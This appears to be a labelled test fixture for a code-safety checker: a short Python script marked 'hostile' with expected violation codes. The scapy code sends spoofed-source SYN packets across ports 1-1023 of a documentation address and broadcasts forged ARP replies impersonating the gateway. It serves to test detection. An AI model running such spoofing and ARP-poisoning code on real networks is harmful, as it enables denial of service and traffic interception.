# label: hostile
# expect: V003
# note: Sends spoofed packets in a loop with a module that the environment lacks.
# allow: V301
from scapy.all import ARP, Ether, IP, TCP, RandIP, send, sendp

victim = "192.0.2.30"
for port in range(1, 1024):
    send(IP(src=RandIP(), dst=victim) / TCP(dport=port, flags="S"), verbose=0)
sendp(Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, psrc="192.0.2.1", pdst=victim), count=100)
